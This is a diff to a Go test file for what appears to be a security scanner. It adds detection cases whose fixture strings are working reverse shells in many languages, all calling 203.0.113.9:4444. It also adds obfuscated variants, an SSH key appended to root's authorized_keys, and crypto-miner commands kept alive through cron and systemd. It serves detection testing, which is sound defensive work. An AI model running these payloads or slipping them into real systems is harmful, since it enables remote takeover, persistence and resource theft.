@@ -77,7 +77,42 @@ func TestShellBehaviour(t *testing.T) {
 		{name: "key append", path: "/docker-entrypoint.sh", text: "#!/bin/sh\necho 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH2l0M3j1b9Y8v9z0bq7l5u6o3o1vJc3gk2d4m2s8r9x x@y' >> /root/.ssh/authorized_keys\n", want: []string{RuleKeyAppend}},
 		{name: "base64 blob", path: "/opt/.cache/stage", text: b64("#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n") + "\n", want: []string{RuleDevTCP}},
 
+		// systemd reads Exec lines by its own quoting: the shell gets $sock, not an expansion.
+		{name: "systemd quoted php", path: "/etc/systemd/system/k.service", text: "[Service]\nExecStart=/bin/sh -c \"php -r '$$s=fsockopen(\\\"203.0.113.9\\\",4444);exec(\\\"/bin/sh -i <&3 >&3 2>&3\\\");'\"\n", want: []string{RulePHP}, label: audit.CategoryPersistence},
+		{name: "systemd environment", path: "/etc/systemd/system/e.service", text: "[Service]\nEnvironment=\"T=203.0.113.9 4444\" SH=/bin/bash\nExecStart=/usr/bin/nc -e ${SH} $T\n", want: []string{RuleNetExec}, label: audit.CategoryPersistence},
+		// sh -c CODE NAME ARGS: the positional parameters carry the command.
+		{name: "sh -c positional", path: "/opt/p.sh", text: "#!/bin/sh\nbash -c '$@|bash' x echo bash -i '>&' /dev/tcp/203.0.113.9/4444 '0>&1'\n", want: []string{RuleDevTCP}},
+		// The program in a named-pipe loop computed at run time, and telnet's TLS option.
+		{name: "fifo computed program", path: "/etc/cron.d/t", text: "* * * * * root mkfifo /tmp/.q && telnet -z verify=0 203.0.113.9 4444 0</tmp/.q | $(which $0) 1>/tmp/.q\n", want: []string{RuleFifo}},
+		{name: "which interpreter", path: "/opt/w.sh", text: "#!/bin/sh\necho " + b64("import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")") + " | base64 -d | exec $(which python3 || which python) -\n", want: []string{RulePython, RuleDecodeRun}},
+		{name: "zsh ztcp -d", path: "/root/.zshrc", text: "zmodload zsh/net/tcp && ztcp -d 7 203.0.113.9 4444 && zsh 1>&7 2>&7 0>&7\n", want: []string{RuleDevTCP}, label: audit.CategoryPersistence},
+		// Interpreters given code with the option glued to the quote.
+		{name: "ruby glued -e", path: "/usr/local/bin/r", text: "#!/bin/sh\nruby -rsocket -e'c=TCPSocket.new(\"203.0.113.9\",4444);while(l=c.gets);IO.popen(l,\"r\"){|io|c.print io.read};end'\n", want: []string{RuleRuby}},
+		{name: "ruby inline socket", path: "/usr/local/bin/r2", text: "#!/bin/sh\nruby -rsocket -e'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"203.0.113.9\",4444))'\n", want: []string{RuleRuby}},
+		// Names bound at run time.
+		{name: "python aliases", path: "/opt/a.sh", text: "#!/bin/sh\npython3 -c 'i=__import__;n=i(\"socket\").socket;d=i(\"os\").dup2;k=n();k.connect((\"203.0.113.9\",4444));g=k.fileno;d(g(),0);d(g(),1);i(\"pty\").spawn(\"/bin/sh\")'\n", want: []string{RulePython}},
+		{name: "php names from characters", path: "/opt/e.sh", text: "#!/bin/sh\nphp -r '$a=\"f\";$b=\"s\";$c=\"o\";$d=\"c\";$e=\"k\";$g=\"p\";$h=\"e\";$i=\"n\";$x=\"x\";$o=$a.$b.$c.$d.$e.$c.$g.$h.$i;$r=$o(\"203.0.113.9\",4444);$q=$h.$x.$h.$d;$q(\"/bin/sh -i <&3 >&3 2>&3\");'\n", want: []string{RulePHP}},
+		// Reads into buffers and shells fed by pipes and streams.
+		{name: "perl sysread", path: "/opt/ps.pl", text: "use IO::Socket::INET;\nmy $k = IO::Socket::INET->new(PeerAddr => \"203.0.113.9:4444\");\nwhile (sysread($k, my $line, 4096)) { syswrite($k, `$line`); }\n", want: []string{RulePerl}},
+		{name: "php pipes relay", path: "/var/www/html/r.php", text: "<?php\n$cmd = 'id; sh -i';\n$s = fsockopen('203.0.113.9', 443);\n$p = proc_open($cmd, array(0 => array('pipe', 'r'), 1 => array('pipe', 'w')), $io);\nwhile (!feof($s)) {\n  $in = fread($s, 1024);\n  fwrite($io[0], $in);\n  fwrite($s, fread($io[1], 1024));\n}\n", want: []string{RulePHP}},
+		{name: "java streams relay", path: "/opt/src/R.java", text: "import java.net.Socket;\nclass R { public static void main(String[] a) throws Exception {\n  Process pr = new ProcessBuilder(\"/bin/bash\").redirectErrorStream(true).start();\n  Socket k = new Socket(\"203.0.113.9\", 4444);\n  java.io.InputStream out = pr.getInputStream(), net = k.getInputStream();\n  java.io.OutputStream in = pr.getOutputStream(), back = k.getOutputStream();\n  while (true) { while (net.available() > 0) in.write(net.read()); while (out.available() > 0) back.write(out.read()); in.flush(); back.flush(); }\n} }\n", want: []string{RuleJava}},
+		{name: "node this", path: "/opt/n.sh", text: "#!/bin/sh\nnode -e 'p=require(\"child_process\").spawn(\"/bin/sh\");net.connect(4444,\"203.0.113.9\",function(){this.pipe(p.stdin);p.stdout.pipe(this);});'\n", want: []string{RuleNode}},
+		{name: "tcl", path: "/opt/t.sh", text: "#!/bin/sh\necho 'set k [socket 203.0.113.9 4444];while 1 {gets $k line;set r [eval \"exec $line\"];puts $k $r;flush $k}'|tclsh\n", want: []string{RuleTcl}},
+		{name: "r", path: "/opt/r.sh", text: "#!/bin/sh\nRscript -e \"k<-socketConnection(host='203.0.113.9',port=4444,open='r+');repeat{writeLines(readLines(pipe(readLines(k,1))),k)}\"\n", want: []string{RuleR}},
+		{name: "c source", path: "/opt/src/b.c", text: "#include <unistd.h>\nint main(void){ int fd = socket(2, 1, 0); struct sockaddr_in a; connect(fd, (void*)&a, 16);\n  for (int i = 0; i < 3; i++) dup2(fd, i);\n  execl(\"/bin/sh\", \"sh\", 0); }\n", want: []string{RuleCSource}},
+		{name: "rust source", path: "/opt/src/main.rs", text: "use std::net::TcpStream;\nuse std::os::unix::io::{AsRawFd, FromRawFd};\nfn main() { let s: &'static str = \"203.0.113.9:4444\"; let c = TcpStream::connect(s).unwrap(); let n = c.as_raw_fd();\n  std::process::Command::new(\"/bin/bash\").stdin(unsafe { std::process::Stdio::from_raw_fd(n) }).spawn().unwrap(); }\n", want: []string{RuleRust}},
+		{name: "go source", path: "/srv/agent/main.go", text: "package main\nimport (\"net\"; \"os/exec\")\nfunc main() { k, _ := net.Dial(\"tcp\", \"203.0.113.9:4444\"); c := exec.Command(\"/bin/sh\"); c.Stdin = k; c.Stdout = k; c.Run() }\n", want: []string{RuleGo}},
+		{name: "code handed to a program", path: "/opt/g.sh", text: "#!/bin/sh\ngimp -idf --batch-interpreter=python-fu-eval -b 'import socket,os,pty;s=socket.socket()\ns.connect((\"203.0.113.9\",4444))\n[os.dup2(s.fileno(),fd) for fd in (0,1,2)]\npty.spawn(\"/bin/sh\")'\n", want: []string{RulePython}},
+		// Miners by their command line.
+		{name: "miner no scheme", path: "/opt/m.sh", text: "#!/bin/sh\nP=pool.example.org:14433\n./kworker -o $P -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A.w1 -p x -B\n", want: []string{RuleMinerCommand}, cat: audit.CategoryMiner},
+		{name: "miner algo", path: "/etc/cron.d/m", text: "@reboot root /usr/bin/.x --url=198.51.100.7:80 --user=w9 -a rx/0 -B\n", want: []string{RuleMinerCommand}, cat: audit.CategoryMiner, label: audit.CategoryPersistence},
+		{name: "miner options", path: "/etc/systemd/system/m.service", text: "[Service]\nExecStart=/opt/sysd -o 198.51.100.7:3333 -u worker --donate-level=1 --cpu-max-threads-hint=50\n", want: []string{RuleMinerCommand}, cat: audit.CategoryMiner},
+
 		// Silent.
+		{name: "curl -o -u", path: "/opt/fetch.sh", text: "#!/bin/sh\ncurl -fsS -o /tmp/out -u deploy:x https://repo.example.org:8443/a.tar\nssh -o StrictHostKeyChecking=no -u x host\nmysql -u root -o -h db:3306\n"},
+		{name: "netcat doc $0", path: "/usr/share/doc/netcat/examples/relay", text: "#!/bin/sh\nnc -l -p 8080 -e \"$0\" < /dev/null\n"},
+		{name: "proxy fifo loop", path: "/opt/proxy.sh", text: "#!/bin/sh\nmkfifo /tmp/back\nnc -l 8080 0</tmp/back | nc localhost 80 1>/tmp/back\n"},
+		{name: "java spawn and socket apart", path: "/opt/src/App.java", text: "import java.net.Socket;\nclass App { void run() throws Exception { Socket k = new Socket(\"db\", 5432); k.getOutputStream().write(1);\n Process p = new ProcessBuilder(\"/bin/sh\", \"-c\", \"backup.sh\").start(); p.waitFor(); } }\n"},
 		{name: "healthcheck", path: "/usr/local/bin/healthcheck", text: "#!/bin/bash\ntimeout 1 bash -c '</dev/tcp/127.0.0.1/5432' || exit 1\nexec 3<>/dev/tcp/localhost/8080\nprintf 'GET /healthz HTTP/1.0\\r\\n\\r\\n' >&3\ngrep -q '200 OK' <&3\nexec 3>&-\nuntil nc -z db 5432; do sleep 1; done\nnc -l -p 9000 < /srv/status.txt &\nsocat TCP-LISTEN:8081,fork,reuseaddr TCP:backend:80 &\nsocat TCP-LISTEN:8082,reuseaddr,fork EXEC:/usr/local/bin/handler.sh &\n"},
 		{name: "bash docs", path: "/usr/share/doc/bash/notes.txt", text: "REDIRECTION\n  Bash handles /dev/tcp/host/port or /dev/udp/host/port.\n  Example: read a daytime server with  cat < /dev/tcp/time.example.org/13\n"},
 		{name: "crontab clean", path: "/etc/crontab", text: "SHELL=/bin/sh\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n*/10 * * * *\troot\tcurl -fsS -m 10 --retry 5 https://hc-ping.example.com/0f3a > /dev/null\n"},
@@ -131,5 +166,22 @@ func TestOldSamples(t *testing.T) {
 			t.Errorf("%s: nothing found", name)
 		}
 		t.Logf("%s:\n%s", name, dump(fs))
+	}
+}
+
+// Build steps and the image's command: a named pipe written late in the line is read early
+// (the passes files get), miners by their command line.
+func TestConfigCommands(t *testing.T) {
+	for _, tt := range []struct{ code, want string }{
+		{"rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f", RuleFifo},
+		{"'/usr/bin/kswapd0' '-o' 'pool.example.org:443' '-u' '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A' '-k'", RuleMinerCommand},
+		{"ruby -rsocket -e'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"203.0.113.9\",4444))'", RuleRuby},
+		{"apt-get update && apt-get install -y curl && curl -o /tmp/x -u me:pw https://repo.example.org/x", ""},
+	} {
+		fs := configFindings(tt.code)
+		got := strings.Join(rules(fs), " ")
+		if got != tt.want {
+			t.Errorf("%s: rules %q, want %q\n%s", tt.code, got, tt.want, dump(fs))
+		}
 	}
 }
